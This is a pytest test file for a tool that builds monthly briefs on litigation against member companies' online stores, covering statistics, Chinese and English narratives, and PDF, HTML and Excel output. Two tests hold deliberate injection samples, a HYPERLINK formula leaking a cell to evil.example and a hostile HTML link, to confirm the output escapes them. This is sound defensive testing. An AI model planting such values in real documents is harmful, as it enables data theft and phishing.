"""The monthly brief on the tiny fixture plus three cases filed in February 2023 (a year before
the brief's month), so that every change has a hand-worked answer:

month      cases  defendant rows (members)              members new  frozen
2023-02    3      X1: M4 80, non-member 20 (X2, X3: none)  M4 -> 1      100
2023-12    1      C4: M4 50, non-member 25                 0 (M4 seen)  75
2024-01    1      C1: M1 1000, M3 500, non-member 200      M1, M3 -> 2  1700
2024-02    2      C2: M2 0, M1 300; C3: M1 100             M2 -> 1      400
2024-03    1      C5: none                                 0            0
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from fpdf import FPDF
from pypdf import PdfReader

from casewatch import report
from casewatch.__main__ import main
from casewatch.db import Database
from casewatch.facts import bump_data_version
from casewatch.filters import EARLIEST, Filters, Vocabulary
from casewatch.report import brief as brief_module
from casewatch.report import fonts
from casewatch.report.pdf import wrap_lines
from tests.support.databases import FIXTURES, load_csv_tables

FEB = dt.date(2024, 2, 1)
ANY_DATES = Filters(date_from=dt.date(2024, 1, 1), date_to=dt.date(2024, 3, 31))  # the brief replaces the dates
NOW = dt.datetime(2024, 3, 5, 9, 30)

EXTRA_CASES = [
    ("ilnd:1:23-cv-00100", "ilnd", "US", "1:23-cv-00100", "2023-02-08", "Alpha Inc", "Alpha", "Firm A", "S0201"),
    ("ilnd:1:23-cv-00101", "ilnd", "US", "1:23-cv-00101", "2023-02-09", "Beta LLC", "Beta", "Firm B", "S0101"),
    ("ilnd:1:23-cv-00102", "ilnd", "US", "1:23-cv-00102", "2023-02-20", "Gamma Co", "Gamma", "Firm B", "S0301"),
]
EXTRA_DEFENDANTS = [
    ("ilnd:1:23-cv-00100", 1, "Gengxin Lights", "amazon", "A4GENGXIN04", "M4", "440300", 80.0),
    ("ilnd:1:23-cv-00100", 2, "Fujian Shop", "temu", "T777", None, "350000", 20.0),
]


def build_report_db(path: str) -> Database:
    """The tiny fixture plus the February 2023 cases of the module docstring."""
    db = Database(path)
    load_csv_tables(db, FIXTURES / "tiny")
    with db.write() as con:
        for case_id, court, country, docket, filed_on, plaintiff, brand, firm, sector in EXTRA_CASES:
            con.execute(
                "INSERT INTO cases (case_id, court, country, docket_number, filed_on, plaintiff, brand, "
                "law_firm, ip_type, case_kind, sector_code) "
                "VALUES ($1, $2, $3, $4, $5, $6, $7, $8, 'trademark', 'schedule_a', $9)",
                [case_id, court, country, docket, filed_on, plaintiff, brand, firm, sector],
            )
        for case_id, number, store, platform, seller, member, city, frozen in EXTRA_DEFENDANTS:
            con.execute(
                "INSERT INTO defendants (case_id, defendant_no, store_name, platform, seller_id, member_id, city_code, "
                "outcome, frozen_usd) VALUES ($1, $2, $3, $4, $5, $6, $7, 'pending', $8)",
                [case_id, number, store, platform, seller, member, city, frozen],
            )
        bump_data_version(con)
    return db


@pytest.fixture(scope="module")
def report_db_path(tmp_path_factory: pytest.TempPathFactory) -> str:
    """A closed copy of the report database, for the CLI (which opens its own connection)."""
    path = str(tmp_path_factory.mktemp("report_cli") / "report.duckdb")
    build_report_db(path).close()
    return path


@pytest.fixture(scope="module")
def report_db(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Database]:
    db = build_report_db(str(tmp_path_factory.mktemp("report") / "report.duckdb"))
    yield db
    db.close()


def vocabulary(db: Database) -> Vocabulary:
    return Vocabulary.from_rows(db.query("reference/vocabulary").itertuples(index=False, name=None))


def brief_for(
    db: Database, month: dt.date = FEB, filters: Filters = ANY_DATES, audience: str = "analyst"
) -> report.MonthlyBrief:
    """The brief as an analyst gets it (it names members); ``audience="leadership"`` for counts only."""
    return report.build_brief(db.query, month, filters, vocabulary(db), now=NOW, audience=audience)


@pytest.fixture(scope="module")
def feb(report_db: Database) -> report.MonthlyBrief:
    return brief_for(report_db)


# --- queries -----------------------------------------------------------------------------------


def test_monthly_numbers(report_db: Database) -> None:
    filters = ANY_DATES.with_values(date_from=dt.date(2023, 2, 1), date_to=dt.date(2024, 2, 29))
    trend = report_db.query("report/monthly", **filters.params(), history_from=EARLIEST)
    assert len(trend) == 13
    by_month = trend.set_index(trend["month"].dt.strftime("%Y-%m"))
    assert by_month.loc["2023-02"].tolist()[1:] == [3, 2, 1, 1, 100]
    assert by_month.loc["2023-12"].tolist()[1:] == [1, 2, 1, 0, 75]  # M4 was first sued in 2023-02
    assert by_month.loc["2024-01"].tolist()[1:] == [1, 3, 2, 2, 1700]
    assert by_month.loc["2024-02"].tolist()[1:] == [2, 3, 2, 1, 400]
    assert by_month.loc["2023-06"].tolist()[1:] == [0, 0, 0, 0, 0]


def test_members_new_follow_the_filters(report_db: Database) -> None:
    # Amazon stores only: M1 first appears in January (C1 s1), M2 in February (C2 s4), M4 in 2023-02
    amazon = ANY_DATES.with_values(date_from=dt.date(2024, 1, 1), date_to=dt.date(2024, 2, 29), platforms=("amazon",))
    trend = report_db.query("report/monthly", **amazon.params(), history_from=EARLIEST)
    assert trend["members_new"].tolist() == [1, 1]
    # eBay only: M1's first eBay store defendant row is C3 in February
    ebay = amazon.with_values(platforms=("ebay",))
    assert report_db.query("report/monthly", **ebay.params(), history_from=EARLIEST)["members_new"].tolist() == [0, 1]


def test_movers(feb: report.MonthlyBrief) -> None:
    movers = feb.movers
    # cities: Shenzhen 1 -> 2 (s5, s6), Guangzhou 0 -> 1 (s4); Shantou and unknown fell
    cities = movers[movers["dimension"] == "city"]
    assert cities[["code", "current", "previous", "increase", "cases"]].values.tolist() == [
        ["440300", 2, 1, 1, 2],
        ["440100", 1, 0, 1, 1],
    ]
    # sectors: S01 0 -> 2 (C2); S02 fell from 3 to 1
    assert movers[movers["dimension"] == "sector"][["code", "name_en", "increase"]].values.tolist() == [
        ["S01", "Apparel & Footwear", 2]
    ]
    assert movers[movers["dimension"] == "brand"][["code", "increase"]].values.tolist() == [["Beta", 2]]
    assert movers[movers["dimension"] == "firm"][["code", "increase"]].values.tolist() == [["Firm B", 2]]


def test_movers_limit(report_db: Database) -> None:
    filters = ANY_DATES.with_values(date_from=dt.date(2024, 1, 1), date_to=dt.date(2024, 2, 29))
    one = report_db.query("report/movers", **filters.params(), month=FEB, previous_to=dt.date(2024, 1, 31), limit=1)
    assert one.groupby("dimension").size().to_dict() == {"brand": 1, "city": 1, "firm": 1, "sector": 1}
    assert one.loc[one["dimension"] == "city", "code"].tolist() == ["440300"]  # tie on +1: more this month


def test_new_members(feb: report.MonthlyBrief) -> None:
    members = feb.new_members
    assert members[["member_id", "city_zh", "sector_en", "cases", "defendant_instances", "brands"]].values.tolist() == [
        ["M2", "广州", "Clothing", 1, 1, "Beta"]
    ]


def test_new_members_in_january(report_db: Database) -> None:
    jan = brief_for(report_db, dt.date(2024, 1, 1))
    assert jan.new_members["member_id"].tolist() == ["M1", "M3"]
    assert jan.new_members["brands"].tolist() == ["Alpha", "Alpha"]


# --- the brief ---------------------------------------------------------------------------------


def test_kpis_with_changes(feb: report.MonthlyBrief) -> None:
    got = {k.key: (k.value, k.previous, k.year_ago) for k in feb.kpis}
    assert got == {
        "cases": (2, 1, 3),
        "defendant_instances": (3, 3, 2),
        "members_affected": (2, 2, 1),
        "members_new": (1, 2, 1),
        "frozen_usd": (400, 1700, 100),
    }
    cases = feb.kpi("cases")
    assert cases.mom == 1.0 and cases.yoy == pytest.approx(-1 / 3)
    assert feb.kpi("frozen_usd").mom == pytest.approx(-1300 / 1700)
    assert feb.filters.date_from == FEB and feb.filters.date_to == dt.date(2024, 2, 29)
    assert feb.waves is None  # no herding results in this database


def test_narrative_zh_word_for_word(feb: report.MonthlyBrief) -> None:
    assert report.sentences(feb, "zh") == [
        "2024年2月新增案件2件，环比增长100%，同比下降33%；涉及被告店铺3家次、涉诉会员2家，其中首次涉诉1家；"
        "冻结金额400美元。",
        "被告店铺次数较上月增幅居前的是：城市深圳（+1）、行业服装鞋帽（+2）、品牌Beta（+2）、律所Firm B（+2）。",
        "首次涉诉的会员有广州市丙丁服饰有限公司。",
    ]


def test_narrative_en_word_for_word(feb: report.MonthlyBrief) -> None:
    assert report.summary(feb, "en") == (
        "New cases in February 2024: 2 (up 100% on the previous month, down 33% year on year). "
        "Defendant stores named: 3; member companies sued: 2, 1 of them for the first time. Frozen: US$400. "
        "Largest increases in defendant stores against the previous month: city Shenzhen (+1), "
        "sector Apparel & Footwear (+2), brand Beta (+2), law firm Firm B (+2). "
        "Sued for the first time: Guangzhou Bingding Apparel Co. Ltd."  # one full stop after "Ltd."
    )


def test_narrative_from_nothing_and_no_movers(report_db: Database) -> None:
    december = brief_for(report_db, dt.date(2023, 12, 1))
    # November 2023 and December 2022 had no cases; everything rose from nothing
    assert report.sentences(december, "zh")[0] == (
        "2023年12月新增案件1件，上月无新案件，去年同月无新案件；涉及被告店铺2家次、涉诉会员1家，其中首次涉诉0家；"
        "冻结金额75美元。"
    )
    march = brief_for(report_db, dt.date(2024, 3, 1))
    # C5 has no defendant listed: nothing rose against February; 1 case against 2 and against none
    assert report.sentences(march, "en") == [
        "New cases in March 2024: 1 (down 50% on the previous month, none a year earlier). "
        "Defendant stores named: 0; member companies sued: 0, 0 of them for the first time. Frozen: US$0.",
        "No city, sector, brand or law firm named more defendant stores than the previous month.",
    ]


def test_narrative_names_at_most_three_members(feb: report.MonthlyBrief) -> None:
    many = pd.DataFrame(
        {
            "member_id": ["A", "B", "C", "D"],
            "name_zh": ["甲", "乙", "丙", "丁"],
            "name_en": ["A Co", "B Co", "C Co", "D Co"],
        }
    )
    trend = feb.trend.copy()
    trend.loc[trend["month"] == pd.Timestamp(FEB), "members_new"] = 4
    brief = report.MonthlyBrief(**{**feb.__dict__, "new_members": many, "trend": trend})
    assert report.sentences(brief, "zh")[-1] == "首次涉诉的会员有甲、乙、丙等4家。"
    assert (
        report.sentences(brief, "en")[-1] == "Sued for the first time: A Co; B Co; C Co and others, 4 members in all."
    )


def test_filters_apply_to_every_number(report_db: Database) -> None:
    shenzhen = brief_for(report_db, filters=ANY_DATES.with_values(cities=("440300",)))
    # Shenzhen in February: C2 s5 (M1, 300) and C3 s6 (M1, 100); January: C1 s1 (M1, 1000);
    # February 2023: X1 s1 (M4, 80)
    assert {k.key: (k.value, k.previous, k.year_ago) for k in shenzhen.kpis} == {
        "cases": (2, 1, 1),
        "defendant_instances": (2, 1, 1),
        "members_affected": (1, 1, 1),
        "members_new": (0, 1, 1),
        "frozen_usd": (400, 1000, 80),
    }
    assert shenzhen.new_members.empty
    assert "城市：深圳" in shenzhen.caption("zh")


def test_formatting() -> None:
    assert report.format_percent(0.18) == "18%"
    assert report.format_percent(-0.032) == "3.2%"
    assert report.format_percent(0.0996) == "10%"
    assert report.format_change(1.0) == "+100%"
    assert report.format_change(-0.05) == "-5.0%"
    assert report.format_change(0.0) == "0%"
    assert report.format_change(None) == "—"
    assert report.format_value(1899842.4, "usd") == "$1,899,842"
    assert report.format_compact(99_999, "usd", "zh") == "$99,999"
    assert report.format_compact(137_258, "count", "zh") == "13.7万"
    assert report.format_compact(614_510_569, "usd", "zh") == "$6.15亿"
    assert report.format_compact(614_510_569, "usd", "en") == "$615M"
    assert report.format_compact(158_903, "count", "en") == "159K"
    # rounding that reaches the next unit takes it (found in review: "$1,000K", "$100.0万")
    assert report.format_compact(999_600, "usd", "en") == "$1.00M"
    assert report.format_compact(99_960_000, "usd", "en") == "$100M"
    assert report.format_compact(999_600, "usd", "zh") == "$100万"
    assert report.format_compact(99_996_000, "count", "zh") == "1.00亿"
    assert report.format_change(-0.0004) == "0%" and report.format_change(0.0006) == "+0.1%"


def test_months() -> None:
    today = dt.date(2026, 11, 27)
    assert report.parse_month("2024-02", today) == FEB
    for bad in ("2024-13", "24-02", "2026-12", "1999-12", ""):
        with pytest.raises(report.BadMonth):
            report.parse_month(bad, today)
    # the latest full month the data reaches
    assert report.default_month(dt.date(2023, 2, 1), dt.date(2024, 3, 1), today) == dt.date(2024, 3, 1)
    assert report.default_month(dt.date(2019, 1, 1), dt.date(2026, 11, 1), today) == dt.date(2026, 10, 1)
    assert report.default_month(None, None, today) == dt.date(2026, 10, 1)
    assert report.month_choices(dt.date(2023, 12, 1), dt.date(2024, 2, 1), today) == [
        FEB,
        dt.date(2024, 1, 1),
        dt.date(2023, 12, 1),
    ]


def test_missing_font_is_named(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.delenv("CASEWATCH_CJK_FONT", raising=False)
    monkeypatch.setattr(fonts, "CJK_FONTS", ((str(tmp_path / "none.ttc"), 0),))
    with pytest.raises(report.CjkFontMissing) as raised:
        report.cjk_font()
    assert raised.value.key == "report.error.font_missing" and "none.ttc" in str(raised.value)


# --- waves from the herding cache --------------------------------------------------------------

WAVE_ROWS = [
    # run_id, wave_id, entity_kind, entity, pattern, start, end, members_hit, cases, top_cities, top_sectors
    (1, "old", "brand", "Beta", "wave", "2024-02-01", "2024-02-01", 9, 9, ["440100"], []),  # an older run
    (2, "w1", "brand", "Beta", "wave", "2024-02-01", "2024-03-01", 2, 2, ["440100", "440300"], ["S01"]),
    (2, "w2", "firm", "Firm A", "wave", "2024-01-01", "2024-02-01", 3, 2, ["440300", "999999"], []),
    (2, "w3", "brand", "Alpha", "wave", "2023-12-01", "2024-01-01", 2, 2, ["440300"], []),  # over by February
    (2, "w4", "brand", "Beta", "cohort", "2024-02-01", "2024-02-01", 2, 1, [], []),  # a cohort re-suit
    (2, "w5", "brand", "Gamma", "wave", "2024-03-01", "2024-03-01", 5, 1, [], []),  # not yet
]


@pytest.fixture(scope="module")
def waves_db(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Database]:
    """The report database with two herding runs cached (tables of migration 004)."""
    db = build_report_db(str(tmp_path_factory.mktemp("waves") / "waves.duckdb"))
    with db.write() as con:
        for run_id in (1, 2):
            con.execute(
                "INSERT INTO herding_runs (run_id, data_version, computed_at) VALUES ($1, $2, TIMESTAMP '2024-03-02')",
                [run_id, run_id],
            )
        for run_id, wave_id, kind, entity, pattern, start, end, members, cases, cities, sectors in WAVE_ROWS:
            con.execute(
                "INSERT INTO herding_waves (run_id, wave_id, entity_kind, entity, pattern, trigger, start_month, "
                "end_month, months, members_hit, peak_members, active, cases, top_cities, top_sectors) "
                "VALUES ($1, $2, $3, $4, $5, 'spike', $6, $7, 1, $8, $8, false, $9, $10, $11)",
                [run_id, wave_id, kind, entity, pattern, start, end, members, cases, cities, sectors],
            )
    yield db
    db.close()


def test_waves_new_and_ongoing_of_the_latest_run(waves_db: Database) -> None:
    brief = brief_for(waves_db)
    assert brief.waves is not None
    assert brief.waves[["status", "subject", "entity_kind", "members", "cases"]].values.tolist() == [
        ["new", "Beta", "brand", 2, 2],
        ["ongoing", "Firm A", "firm", 3, 2],
    ]
    # cities then sectors, named; an unknown code is kept as it is
    assert brief.waves["scope_zh"].tolist() == ["广州、深圳、服装鞋帽", "深圳、999999"]
    assert brief.waves["scope_en"].tolist()[0] == "Guangzhou, Shenzhen, Apparel & Footwear"
    assert report.sentences(brief, "zh")[2] == "本月新出现起诉潮1个（Beta），持续中1个。"
    assert report.sentences(brief, "en")[2] == "Litigation waves: 1 new this month (Beta), 1 ongoing."
    march = brief_for(waves_db, dt.date(2024, 3, 1))
    assert march.waves is not None and march.waves["subject"].tolist() == ["Gamma", "Beta"]
    december = brief_for(waves_db, dt.date(2023, 12, 1))
    assert report.sentences(december, "zh")[-1] == "本月新出现起诉潮1个（Alpha），持续中0个。"
    june = brief_for(waves_db, dt.date(2023, 6, 1))
    assert june.waves is not None and june.waves.empty
    assert report.sentences(june, "en")[-1] == "Litigation waves: none new this month, 0 ongoing."


def test_waves_follow_the_brand_and_firm_filters(waves_db: Database) -> None:
    """A brief filtered to a brand or law firm lists that one's waves, as the herding page does
    (herding/waves): filtered to brand Alpha, the February brief's figures are Alpha's but it listed
    and named Beta's new wave (found in testing). A brand filter leaves law-firm waves listed and a
    firm filter brand waves, as on the herding page."""
    alpha = brief_for(waves_db, filters=ANY_DATES.with_values(brands=("Alpha",)))
    assert alpha.waves is not None
    assert alpha.waves[["status", "subject", "entity_kind"]].values.tolist() == [["ongoing", "Firm A", "firm"]]
    assert report.sentences(alpha, "en")[-1] == "Litigation waves: none new this month, 1 ongoing."
    firm_b = brief_for(waves_db, filters=ANY_DATES.with_values(firms=("Firm B",)))
    assert firm_b.waves is not None
    assert firm_b.waves[["status", "subject", "entity_kind"]].values.tolist() == [["new", "Beta", "brand"]]


def test_waves_in_every_rendering(waves_db: Database) -> None:
    brief = brief_for(waves_db)
    table = report.month_tables(brief, "zh")["waves"]
    assert table.values.tolist() == [
        ["新出现", "品牌", "Beta", "骤发（单月）", "广州、深圳、服装鞋帽", "2024-02", 2, 2],
        ["持续中", "律所", "Firm A", "骤发（单月）", "深圳、999999", "2024-01", 3, 2],
    ]
    html = report.render(brief, "html", "en").decode("utf-8")
    assert "<td>Ongoing</td><td>Law firm</td><td>Firm A</td>" in html  # table cells capitalised
    book = openpyxl.load_workbook(io.BytesIO(report.render(brief, "xlsx", "zh")))
    assert list(book["起诉潮"].iter_rows(values_only=True))[1] == tuple(table.values.tolist()[0])
    text = "\n".join(p.extract_text() for p in PdfReader(io.BytesIO(report.render(brief, "pdf", "zh"))).pages)
    assert "新出现 品牌 Beta 骤发（单月） 广州、深圳、服装鞋帽 2024-02 2 2" in text


def test_no_herding_run_means_no_wave_results(report_db: Database) -> None:
    # migration 004's tables exist but herding has never run: "not available", not "no waves"
    assert report_db.query("report/table_exists", table="herding_waves").iloc[0]["present"]
    assert brief_for(report_db).waves is None


def test_pdf_lines_break_chinese_anywhere_but_latin_words_only_at_spaces() -> None:
    font, face = report.cjk_font()
    pdf = FPDF()
    pdf.add_font("cjk", "", str(font), collection_font_number=face)
    pdf.set_font("cjk", size=10)
    text = "增幅居前：城市深圳（+85）、律所Oakhurst Lim LLC（+251）。本月新出现起诉潮2个（Koveilo、Oakhurst Lim LLC）。"
    for width in range(20, 120, 7):
        lines = wrap_lines(pdf, text, width)
        assert "".join(lines).replace(" ", "") == text.replace(" ", "")
        for line in lines:
            assert pdf.get_string_width(line) <= width or len(line.split()) == 1
            assert line[0] not in "，。、；：）" and line[-1] != "（"
            assert not any(word in line for word in ("Oakh", "Koveil")) or any(
                whole in line for whole in ("Oakhurst", "Koveilo")
            )


# --- renderings --------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def feb_pdf_zh(feb: report.MonthlyBrief) -> bytes:
    return report.render(feb, "pdf", "zh")


def test_pdf_text_has_title_and_kpis(feb_pdf_zh: bytes, report_db: Database) -> None:
    reader = PdfReader(io.BytesIO(feb_pdf_zh))
    text = "\n".join(page.extract_text() for page in reader.pages)
    assert "CaseWatch 月度简报 · 2024年2月" in text
    # the KPI values as the query returns them (hand-worked in test_monthly_numbers)
    filters = ANY_DATES.with_values(date_from=FEB, date_to=dt.date(2024, 2, 29))
    row = report_db.query("report/monthly", **filters.params(), history_from=EARLIEST).iloc[0]
    assert row[["cases", "defendant_instances", "members_affected", "members_new", "frozen_usd"]].tolist() == [
        2,
        3,
        2,
        1,
        400,
    ]
    assert f"新立案件\n{row['cases']}\n环比 +100%  (1)\n同比 -33%  (3)" in text
    assert f"被告店铺次数\n{row['defendant_instances']}\n环比 0%  (3)\n同比 +50%  (2)" in text
    assert f"涉诉会员\n{row['members_affected']}\n" in text
    assert f"首次涉诉会员\n{row['members_new']}\n环比 -50%  (2)" in text
    assert f"冻结金额(美元)\n${row['frozen_usd']:,.0f}\n环比 -76%  ($1,700)\n同比 +300%  ($100)" in text
    # filters, data version, page numbers, the narrative, the tables
    assert "筛选条件：立案日期 2024-02-01 至 2024-02-29" in text
    assert f"数据版本 {report_db.data_version()}" in text
    assert "第 1 / " in text and f"第 {len(reader.pages)} / {len(reader.pages)} 页" in text
    assert "首次涉诉的会员有广州市丙丁服饰有限公司。" in text.replace("\n", "")
    assert "起诉潮分析结果暂不可用" in text


def test_pdf_is_a4_with_embedded_cjk_font_and_a_chart_image(feb_pdf_zh: bytes) -> None:
    reader = PdfReader(io.BytesIO(feb_pdf_zh))
    first = reader.pages[0]
    assert (round(float(first.mediabox.width)), round(float(first.mediabox.height))) == (595, 842)  # A4 in pt
    fonts = first["/Resources"]["/Font"]
    descriptors = [f.get_object()["/DescendantFonts"][0].get_object()["/FontDescriptor"] for f in fonts.values()]
    assert any("/FontFile2" in d for d in descriptors), "the CJK font is embedded"
    assert len(first.images) == 1, "the trend chart is an image"
    assert reader.metadata is not None and reader.metadata.title == "CaseWatch 月度简报 · 2024年2月"


def test_pdf_in_english(feb: report.MonthlyBrief) -> None:
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(report.render(feb, "pdf", "en"))).pages)
    assert "CaseWatch monthly brief · February 2024" in text
    assert "New cases\n2\nMoM +100%  (1)" in text
    assert "Filters: Filed 2024-02-01 to 2024-02-29" in text
    assert "Page 1 of" in text


def test_html_is_self_contained(feb: report.MonthlyBrief) -> None:
    html = report.render(feb, "html", "zh").decode("utf-8")
    assert html.count("window.PlotlyConfig") == 1, "plotly.js inlined exactly once"
    # (that nothing is fetched from the network is checked in headless chromium: tests/browser/test_report.py)
    assert "<title>CaseWatch 月度简报 · 2024年2月</title>" in html
    assert 'data-kpi="cases"' in html and '<div class="value">2</div>' in html
    assert html.count('class="plotly-graph-div"') == 5  # the trend and the four movers
    assert "筛选条件：立案日期 2024-02-01 至 2024-02-29" in html
    assert "2024年2月新增案件2件，环比增长100%，同比下降33%" in html


def test_xlsx_holds_the_same_numbers(feb: report.MonthlyBrief) -> None:
    book = openpyxl.load_workbook(io.BytesIO(report.render(feb, "xlsx", "zh")))
    assert book.sheetnames == ["摘要", "关键指标", "月度趋势", "增幅榜", "首次涉诉会员"]
    summary = [row[0] for row in book["摘要"].iter_rows(values_only=True)]
    assert summary[0] == "CaseWatch 月度简报 · 2024年2月"
    assert summary[5] == report.summary(feb, "zh")
    kpis = list(book["关键指标"].iter_rows(values_only=True))
    assert kpis[0] == ("指标", "本月", "上月", "环比", "去年同月", "同比")
    assert (
        [row[1:3] + row[4:5] for row in kpis[1:]]
        == [(k.value, k.previous, k.year_ago) for k in feb.kpis]
        == [(2, 1, 3), (3, 3, 2), (2, 2, 1), (1, 2, 1), (400, 1700, 100)]
    )
    assert kpis[1][3] == pytest.approx(1.0) and kpis[1][5] == pytest.approx(-1 / 3)
    trend = list(book["月度趋势"].iter_rows(values_only=True))
    assert trend[-1] == ("2024-02", 2, 3, 2, 1, 400)
    movers = list(book["增幅榜"].iter_rows(values_only=True))
    assert movers[1] == ("城市", "440300", "深圳", 2, 1, 1, 2)
    members = list(book["首次涉诉会员"].iter_rows(values_only=True))
    assert members[1] == ("M2", "广州市丙丁服饰有限公司", "广州", "服装", 1, 1, "Beta")
    english = openpyxl.load_workbook(io.BytesIO(report.render(feb, "xlsx", "en")))
    sheet = english.sheetnames[3]
    # a word written for sentences is capitalised as a cell ("city" was shown; found in review)
    assert {row[0] for row in list(english[sheet].iter_rows(values_only=True))[1:]} == {
        "City", "Sector", "Brand", "Law firm",
    }  # fmt: skip


def test_xlsx_writes_formula_and_link_text_as_text(feb: report.MonthlyBrief) -> None:
    """A brand or law firm from a docket is text in the workbook: xlsxwriter's defaults made
    "{=...}" an array formula and a URL a live link (found in review), which neutralise() does not
    catch (they start with neither = + - @)."""
    hostile = ['{=HYPERLINK("http://evil.example/?"&A1,"click")}', "https://evil.example/login",
               "external:\\\\host\\share\\x.exe", "mailto:a@evil.example", "1e5"]  # fmt: skip
    movers = feb.movers.copy()
    movers["code"] = [hostile[i % len(hostile)] for i in range(len(movers))]
    data = report.render(dataclasses.replace(feb, movers=movers), "xlsx", "en")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not [n for n in archive.namelist() if "worksheets/_rels" in n]  # no hyperlink relationships
    assert sheets and not [s for s in sheets if "<f" in s or "<hyperlink" in s]
    book = openpyxl.load_workbook(io.BytesIO(data))
    codes = [row[1] for row in list(book.worksheets[3].iter_rows(values_only=True))[1:]]
    assert codes == movers["code"].tolist()  # as text, "1e5" too


def test_html_charts_show_tags_from_the_data_as_text(feb: report.MonthlyBrief) -> None:
    """A brand or law firm from a docket is text in the HTML brief's charts too: plotly reads
    <a href>, <b>, <br> in axis labels and hovers as markup, so a brand named '<a href=...>' was a
    live link in the (leadership) brief's movers chart; the pages pass figures through
    charts.inert, the brief did not (found in testing)."""
    hostile = '<a href="https://evil.example/">Alpha</a> <b>x</b>'
    movers = feb.movers.copy()
    movers["name_zh"] = movers["name_en"] = hostile
    html = report.render(dataclasses.replace(feb, movers=movers), "html", "en").decode("utf-8")
    # the figures' JSON as plotly writes it into the page ("<" as \u003c, "/" as \u002f): one label
    # per mover, two cities and one each of sector, brand and firm
    assert html.count("&lt;a href=\\\"https:\\u002f\\u002fevil.example\\u002f\\\"&gt;Alpha&lt;\\u002fa&gt;") == 5
    assert "\\u003ca href" not in html and "\\u003cb\\u003e" not in html


def test_render_rejects_unknown_format(feb: report.MonthlyBrief) -> None:
    with pytest.raises(ValueError, match="docx"):
        report.render(feb, "docx", "zh")


# --- command line ------------------------------------------------------------------------------


def test_cli_writes_each_format(report_db_path: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "brief.xlsx"
    assert main(["report", "--db", report_db_path, "--month", "2024-02", "--format", "xlsx", "--out", str(out)]) == 0
    kpis = list(openpyxl.load_workbook(out)["关键指标"].iter_rows(values_only=True))
    assert kpis[1][:3] == ("新立案件", 2, 1)
    html = tmp_path / "brief.html"
    args = ["report", "--db", report_db_path, "--month", "2024-02", "--lang", "en", "--format", "html"]
    assert main([*args, "--out", str(html), "--city", "440300"]) == 0
    assert "Filters: Filed 2024-02-01 to 2024-02-29; City: Shenzhen" in html.read_text(encoding="utf-8")
    assert "brief.html" in capsys.readouterr().out


def test_cli_rejects_bad_input(report_db_path: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    base = ["report", "--db", report_db_path, "--format", "pdf", "--out", str(tmp_path / "x.pdf")]
    assert main([*base, "--month", "2024-13"]) == 2
    assert "2024-13" in capsys.readouterr().err
    assert main([*base, "--month", "2024-02", "--from", "2024-01-01"]) == 2
    assert "--month" in capsys.readouterr().err
    with pytest.raises(SystemExit) as exited:
        main([*base, "--month", "2024-02", "--city", "999999"])
    assert exited.value.code == 2
    assert not (tmp_path / "x.pdf").exists()


# --- the current month: month to date ----------------------------------------------------------
# The brief of the current, unfinished month counts its first days and compares them with the same
# days of the previous month and of the month a year earlier. On the report database plus a case
# filed on 25 January 2024 (two non-member Guangzhou stores, Beta / Firm B, sector S01, frozen 40
# and 60), with today 16 February 2024:
#
# period                 cases  defendant rows          members (new)   frozen
# 2024-02-01..02-16      1      C2: M2 0, M1 300        M2, M1 (M2)     300
# 2024-01-01..01-16      1      C1: M1, M3, non-member  M1, M3 (both)   1700   (all January: 2 cases, 5 rows, 1800)
# 2023-02-01..02-16      2      X1: M4 80, non-member   M4 (M4)         100    (all February 2023: 3 cases)
#
# Movers against 1-16 January: Guangzhou 1 against 0, sector S01, Beta and Firm B 2 against 0
# (against all January, with the 25 January case, none of them rose).

TODAY = dt.date(2024, 2, 16)
JAN_25_CASE = ("ilnd:1:24-cv-00050", "ilnd", "US", "1:24-cv-00050", "2024-01-25", "Beta LLC", "Beta", "Firm B", "S0101")
JAN_25_DEFENDANTS = [
    ("ilnd:1:24-cv-00050", 1, "Guang One", "temu", "T551", None, "440100", 40.0),
    ("ilnd:1:24-cv-00050", 2, "Guang Two", "temu", "T552", None, "440100", 60.0),
]


@pytest.fixture(scope="module")
def mtd_db(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Database]:
    db = build_report_db(str(tmp_path_factory.mktemp("mtd") / "mtd.duckdb"))
    with db.write() as con:
        case_id, court, country, docket, filed_on, plaintiff, brand, firm, sector = JAN_25_CASE
        con.execute(
            "INSERT INTO cases (case_id, court, country, docket_number, filed_on, plaintiff, brand, "
            "law_firm, ip_type, case_kind, sector_code) "
            "VALUES ($1, $2, $3, $4, $5, $6, $7, $8, 'copyright', 'schedule_a', $9)",
            [case_id, court, country, docket, filed_on, plaintiff, brand, firm, sector],
        )
        for case_id, number, store, platform, seller, member, city, frozen in JAN_25_DEFENDANTS:
            con.execute(
                "INSERT INTO defendants (case_id, defendant_no, store_name, platform, seller_id, member_id, city_code, "
                "outcome, frozen_usd) VALUES ($1, $2, $3, $4, $5, $6, $7, 'pending', $8)",
                [case_id, number, store, platform, seller, member, city, frozen],
            )
        bump_data_version(con)
    yield db
    db.close()


@pytest.fixture(scope="module")
def feb_to_date(mtd_db: Database) -> report.MonthlyBrief:
    return report.build_brief(
        mtd_db.query, FEB, ANY_DATES, vocabulary(mtd_db), now=NOW, today=TODAY, audience="analyst"
    )


def test_month_to_date_compares_the_same_days(feb_to_date: report.MonthlyBrief) -> None:
    assert feb_to_date.month_to_date and feb_to_date.through == TODAY
    assert {k.key: (k.value, k.previous, k.year_ago) for k in feb_to_date.kpis} == {
        "cases": (1, 1, 2),
        "defendant_instances": (2, 3, 2),
        "members_affected": (2, 2, 1),
        "members_new": (1, 2, 1),
        "frozen_usd": (300, 1700, 100),
    }
    assert feb_to_date.kpi("cases").mom == 0 and feb_to_date.kpi("cases").yoy == -0.5
    assert feb_to_date.filters.date_from == FEB and feb_to_date.filters.date_to == TODAY
    # the trend's own month runs to today; the months before it are whole
    trend = feb_to_date.trend.set_index(feb_to_date.trend["month"].dt.strftime("%Y-%m"))
    assert trend.loc["2024-02"].tolist()[1:] == [1, 2, 2, 1, 300]
